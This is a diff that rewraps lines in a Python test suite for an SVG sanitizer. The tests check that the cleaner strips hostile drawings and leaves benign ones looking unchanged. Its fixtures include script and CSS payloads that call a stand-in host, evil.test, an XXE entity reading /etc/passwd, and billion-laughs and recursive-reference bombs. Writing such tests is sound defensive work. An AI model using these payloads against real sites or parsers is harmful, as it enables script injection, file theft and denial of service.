@@ -23,7 +23,9 @@ HEAD = (
 )
 OUT = "http://evil.test/"
 RUN = "fetch('http://evil.test/ran')"
-LOAD = base64.b64encode(f'{HEAD}<script>{RUN}</script><image href="{OUT}x"/></svg>'.encode()).decode()
+LOAD = base64.b64encode(
+    f'{HEAD}<script>{RUN}</script><image href="{OUT}x"/></svg>'.encode()
+).decode()
 # What a browser runs or fetches of these when it opens them as they are stands first, then what it does not.
 RUNNING = {
     "script": f"<script>{RUN}</script>",
@@ -66,7 +68,9 @@ RUNNING = {
     "style-cdata": f"<style><![CDATA[svg{{background:url({OUT}b)}}]]></style>",
     "style-mask-attribute": f'<rect width="9" height="9" style="mask-image:url({OUT}m)"/>',
     "style-html": f'<style xmlns="http://www.w3.org/1999/xhtml">svg{{background:url({OUT}b)}}</style>',
-    "fe-image": (f'<filter id="f"><feImage href="{OUT}fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
+    "fe-image": (
+        f'<filter id="f"><feImage href="{OUT}fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
+    ),
 }
 IDLE = {
     "link-script": f'<a href="javascript:{RUN}"><rect width="60" height="40"/></a>',
@@ -120,9 +124,13 @@ def fetched(page: Page, drawings: Mapping[str, bytes]) -> list[str]:
     page.goto("http://deck.test/")
     for frame in page.frames[1:]:
         with suppress(Error):
-            frame.evaluate("document.querySelectorAll('a').forEach(a => a.dispatchEvent(new MouseEvent('click')))")
+            frame.evaluate(
+                "document.querySelectorAll('a').forEach(a => a.dispatchEvent(new MouseEvent('click')))"
+            )
     # What a page asks for is known by the time that it has been drawn twice.
-    page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
+    page.evaluate(
+        "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
+    )
     page.wait_for_timeout(500)
     return asked
 
@@ -131,7 +139,10 @@ def hostile() -> dict[str, bytes]:
     """Return the hostile drawings by name; what they fetch tells which of them it was."""
     kept = '<rect id="kept" width="5" height="5"/>'
     whole = ROOTS | {name: f"{HEAD}{inner}{kept}</svg>" for name, inner in (RUNNING | IDLE).items()}
-    return {name: text.replace("evil.test/", f"evil.test/{name}/").encode() for name, text in whole.items()}
+    return {
+        name: text.replace("evil.test/", f"evil.test/{name}/").encode()
+        for name, text in whole.items()
+    }
 
 
 def test_hostile_drawings_run_and_fetch_nothing(page: Page) -> None:
@@ -148,7 +159,9 @@ def test_hostile_drawings_run_and_fetch_nothing(page: Page) -> None:
 def test_the_browser_would_run_and_fetch_them(page: Page) -> None:
     """Without cleaning, what is called running here does; or the test above would show nothing."""
     asked = fetched(page, hostile())
-    assert {name for name in RUNNING if not any(f"evil.test/{name}/" in url for url in asked)} == set()
+    assert {
+        name for name in RUNNING if not any(f"evil.test/{name}/" in url for url in asked)
+    } == set()
 
 
 @pytest.mark.parametrize("name", hostile())
@@ -160,9 +173,13 @@ def test_no_address_is_left(name: str) -> None:
 
 
 def test_what_was_taken_out_is_told() -> None:
-    removed = clean_svg(svg(f'<script>{RUN}</script><rect onclick="x" width="1" height="1"/><metadata/>')).removed
+    removed = clean_svg(
+        svg(f'<script>{RUN}</script><rect onclick="x" width="1" height="1"/><metadata/>')
+    ).removed
     assert removed == ("script", "onclick")
-    assert clean_svg(svg('<path d="M0 0h9" style="fill:#123;-inkscape-stroke:none"/>')).removed == ()
+    assert (
+        clean_svg(svg('<path d="M0 0h9" style="fill:#123;-inkscape-stroke:none"/>')).removed == ()
+    )
 
 
 BENIGN = {
@@ -207,7 +224,11 @@ BENIGN = {
 def test_a_drawing_looks_as_before(page: Page, name: str) -> None:
     picture = io.BytesIO()
     Image.new("RGB", (6, 4), "orange").save(picture, "PNG")
-    drawing = svg(BENIGN[name].replace("base64,PNG", "base64," + base64.b64encode(picture.getvalue()).decode()))
+    drawing = svg(
+        BENIGN[name].replace(
+            "base64,PNG", "base64," + base64.b64encode(picture.getvalue()).decode()
+        )
+    )
     shots = [shot(page, data) for data in (drawing, clean_svg(drawing).data)]
     assert ImageChops.difference(*shots).getbbox() is None
     assert len(shots[0].getcolors(100_000)) > 1, "something is drawn"
@@ -232,7 +253,9 @@ def shot(page: Page, drawing: bytes) -> Image.Image:
     ],
 )
 def test_size(size: str, expected: tuple[int, int]) -> None:
-    clean = clean_svg(f'<svg xmlns="http://www.w3.org/2000/svg" {size}><path d="M0 0"/></svg>'.encode())
+    clean = clean_svg(
+        f'<svg xmlns="http://www.w3.org/2000/svg" {size}><path d="M0 0"/></svg>'.encode()
+    )
     assert (clean.width, clean.height) == expected
 
 
@@ -246,13 +269,20 @@ def copies(levels: int, each: int) -> str:
 
 def styled(levels: int) -> str:
     rules = "".join(f".c{n}{{fill:url(#p{n + 1})}}" for n in range(levels))
-    patterns = (f'<pattern id="p{n}">{f"<path class={chr(34)}c{n}{chr(34)}/>" * 9}</pattern>' for n in range(levels))
+    patterns = (
+        f'<pattern id="p{n}">{f"<path class={chr(34)}c{n}{chr(34)}/>" * 9}</pattern>'
+        for n in range(levels)
+    )
     return f'<style>{rules}</style>{"".join(patterns)}<rect class="c0"/>'
 
 
 REFUSED = {
-    "laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' + HEAD + "<text>&b;</text></svg>",
-    "external entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + HEAD + "<text>&x;</text></svg>",
+    "laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'
+    + HEAD
+    + "<text>&b;</text></svg>",
+    "external entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    + HEAD
+    + "<text>&x;</text></svg>",
     "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{OUT}x"> %x;]>' + HEAD + "</svg>",
     "copies of copies": HEAD + copies(12, 10) + "</svg>",
     "a circle": HEAD + '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>',
@@ -281,7 +311,25 @@ def test_refused(name: str) -> None:
 def test_long_runs_end() -> None:
     """Whatever fills a file, cleaning takes time in proportion; work that grows with the square would not end."""
     run = 100_000
-    fillers = ["a", " ", "/*", "@;", "url(", "(", "1.", "#a{", "}", ":", ";", "\\", "1e1", "@{", "#", "=", ","]
+    fillers = [
+        "a",
+        " ",
+        "/*",
+        "@;",
+        "url(",
+        "(",
+        "1.",
+        "#a{",
+        "}",
+        ":",
+        ";",
+        "\\",
+        "1e1",
+        "@{",
+        "#",
+        "=",
+        ",",
+    ]
     for filler in fillers:
         value = filler * run
         assert "url(" not in properties_of(f"fill:{value}")[0]
@@ -296,7 +344,19 @@ def test_long_runs_end() -> None:
 @given(
     st.lists(
         st.sampled_from(
-            [*"<>/\"'=#(){};:@\\ &", "svg", "g", "path", "style", "script", "onload", "href", "url(", "#a", "xlink:"]
+            [
+                *"<>/\"'=#(){};:@\\ &",
+                "svg",
+                "g",
+                "path",
+                "style",
+                "script",
+                "onload",
+                "href",
+                "url(",
+                "#a",
+                "xlink:",
+            ]
         ),
         max_size=40,
     ).map("".join)
